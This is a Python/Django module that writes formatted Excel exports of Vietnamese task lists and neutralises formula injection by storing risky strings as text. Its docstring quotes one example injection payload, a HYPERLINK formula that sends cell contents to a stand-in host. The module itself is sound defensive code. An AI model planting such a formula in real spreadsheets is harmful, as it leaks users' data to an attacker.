"""Excel exports of the lists leaders act on (openpyxl): a title row, Vietnamese headings,
dates as dd/mm/yyyy, percentages as 85%, a frozen header row repeated on every printed page,
A4 landscape fitted to the width, and column widths that fit.

Every text is written as text: what officials type (a task's title, a report's proposals)
may begin with "=" and would otherwise become a live formula in the leaders' spreadsheet
(``=HYPERLINK("http://evil.example/?"&A1, "Xem")``)."""

import re
from collections.abc import Collection, Iterable, Sequence
from dataclasses import dataclass
from datetime import date
from decimal import Decimal
from io import BytesIO
from typing import Any

from django.http import HttpResponse
from openpyxl import Workbook
from openpyxl.cell import Cell
from openpyxl.styles import Alignment, Font, PatternFill
from openpyxl.utils import get_column_letter
from openpyxl.worksheet.worksheet import Worksheet

XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
# What Excel, LibreOffice and CSV readers take as the start of a formula.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def _as_text(cell: Cell) -> None:
    """Keep a string cell a string: never a formula, and shown with Excel's quote prefix
    (the leading apostrophe) so that editing it does not turn it into one either."""
    if cell.data_type == "f" or (
        isinstance(cell.value, str) and cell.value.startswith(FORMULA_STARTS)
    ):
        cell.data_type = "s"
        cell.quotePrefix = True


def keep_text(sheet: Worksheet) -> None:
    """Every string cell of ``sheet`` written as text (call it once the rows are in)."""
    for row in sheet.iter_rows():
        for cell in row:
            _as_text(cell)


@dataclass(frozen=True)
class Column:
    """A column of an export: its heading, its width in characters, and how its numbers read
    ("percent": 0–100 shown as "85%"; "number": 1.234,5 as the office's Excel shows it)."""

    heading: str
    width: int
    kind: str = "text"


# Characters a sheet's name may not hold (a search's words can bring any of them).
SHEET_NAME_REFUSED = re.compile(r"[\\/?*\[\]:]")


def sheet_name(title: str) -> str:
    """``title`` as a sheet's name: without the characters Excel refuses, at most 31 long."""
    return SHEET_NAME_REFUSED.sub(" ", title)[:31].strip() or "Sheet"


FORMATS = {"percent": '0"%"', "number": "#,##0.##"}
HEADING_ROW = 3  # row 1: the title, row 2: blank, row 3: the headings


def workbook_response(
    *,
    filename: str,
    title: str,
    headings: Sequence[tuple[str, int] | Column],
    rows: Iterable[Sequence[Any]],
    day: date | None = None,
    strong: Collection[int] = (),
) -> HttpResponse:
    """An .xlsx download ready to print: a title row ("DANH SÁCH NHIỆM VỤ QUÁ HẠN tính đến
    ngày 24/11/2026"), the headings (repeated on every printed page, frozen on screen), A4
    landscape fitted to the page's width; ``headings`` are columns or (text, width) pairs, and
    the rows numbered in ``strong`` (from 0) are bold: a group's line above its tasks."""
    columns = [h if isinstance(h, Column) else Column(h[0], h[1]) for h in headings]
    book = Workbook()
    sheet = book.active
    sheet.title = sheet_name(title)
    heading = title.upper() + (f" tính đến ngày {day:%d/%m/%Y}" if day else "")
    sheet.append([heading])
    sheet.append([])
    sheet.merge_cells(start_row=1, start_column=1, end_row=1, end_column=len(columns))
    sheet["A1"].font = Font(bold=True, size=14)
    sheet["A1"].alignment = Alignment(horizontal="center", vertical="center", wrap_text=True)
    sheet.row_dimensions[1].height = 36
    sheet.append([column.heading for column in columns])
    for cell in sheet[HEADING_ROW]:
        cell.font = Font(bold=True)
        cell.fill = PatternFill("solid", fgColor="DDE7F0")
        cell.alignment = Alignment(wrap_text=True, vertical="top")
    for index, column in enumerate(columns, start=1):
        sheet.column_dimensions[get_column_letter(index)].width = column.width
    for row in rows:
        sheet.append(list(row))
    keep_text(sheet)
    for index, row in enumerate(sheet.iter_rows(min_row=HEADING_ROW + 1)):
        for column, cell in zip(columns, row, strict=False):
            if index in strong:
                cell.font = Font(bold=True)
            if isinstance(cell.value, date):
                cell.number_format = "DD/MM/YYYY"
            elif column.kind in FORMATS and isinstance(cell.value, int | float | Decimal):
                cell.number_format = FORMATS[column.kind]
            cell.alignment = Alignment(wrap_text=True, vertical="top")
    sheet.freeze_panes = f"A{HEADING_ROW + 1}"
    last = get_column_letter(len(columns))
    sheet.auto_filter.ref = f"A{HEADING_ROW}:{last}{max(sheet.max_row, HEADING_ROW)}"
    sheet.print_title_rows = f"{HEADING_ROW}:{HEADING_ROW}"
    sheet.page_setup.orientation = "landscape"
    sheet.page_setup.paperSize = sheet.PAPERSIZE_A4
    sheet.page_setup.fitToWidth = 1
    sheet.page_setup.fitToHeight = 0
    sheet.sheet_properties.pageSetUpPr.fitToPage = True
    buffer = BytesIO()
    book.save(buffer)
    response = HttpResponse(buffer.getvalue(), content_type=XLSX)
    response["Content-Disposition"] = f'attachment; filename="{filename}"'
    return response
